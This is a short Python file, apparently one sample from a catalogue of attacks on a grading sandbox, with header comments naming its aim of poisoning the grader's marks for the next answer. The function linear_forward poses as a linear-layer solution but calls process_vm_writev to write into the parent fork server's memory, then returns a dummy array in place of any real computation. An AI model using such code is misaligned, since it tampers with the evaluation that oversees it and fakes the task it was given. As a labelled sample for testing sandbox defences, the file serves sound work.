# gains: wrong marks for the next answer, by the fork server's memory: process_vm_writev
# stopped by: system_calls, capabilities
# gets through: nothing
# family: poisoning the next

import ctypes
import os
import struct

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
text = ctypes.create_string_buffer(ctypes.string_at(id(None), 16), 16)


def linear_forward(X, W, b):
    ours = struct.pack("PN", ctypes.addressof(text), 16)
    theirs = struct.pack("PN", id(None), 16)  # a fork has everything at the same place
    if libc.process_vm_writev(os.getppid(), ours, 1, theirs, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_writev")
    return np.ones(1)
